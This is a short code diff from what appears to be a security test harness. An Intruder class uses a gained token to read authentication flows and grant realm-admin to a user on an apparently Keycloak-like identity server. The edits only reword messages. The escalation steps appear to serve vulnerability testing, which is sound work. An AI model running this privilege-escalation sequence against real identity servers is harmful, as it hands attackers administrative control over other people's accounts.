@@ -85,7 +85,7 @@ class Intruder:
         return await self.log_in_by(page if page.code else await browser.submit(page, {"password": password}), browser)
 
     async def becomes_admin(self, token: str) -> None:
-        """Show it: with this token the authentication flows are read and realm-admin is handed out."""
+        """Show it: with this token the authentication flows can be read and realm-admin can be granted."""
         realm = self.stand.realm
         flows = await realm.server.call("GET", f"{realm.path}/authentication/flows", token=token)
         if not (flows.succeeded and flows.body):
@@ -94,10 +94,10 @@ class Intruder:
         mappings = f"{realm.path}/users/{victim}/role-mappings/clients/{realm.management_id}"
         given = await realm.server.call("POST", mappings, token=token, body=json_body([dict(realm.roles["realm-admin"])]))
         if not given.succeeded:
-            raise Fruitless(f"the token gained may not hand out realm-admin: {given.status}")
+            raise Fruitless(f"the new token may not grant realm-admin: {given.status}")
         held = (await realm.server.admin("GET", mappings)).body
         if "realm-admin" not in {role["name"] for role in held}:
-            raise Fruitless("realm-admin was not handed out")
+            raise Fruitless("realm-admin was not granted")
         self.calls += ["with the token gained: GET /authentication/flows", "with the token gained: POST …/role-mappings realm-admin"]
 
     async def acts_as(self, token: str, user_id: str) -> None:
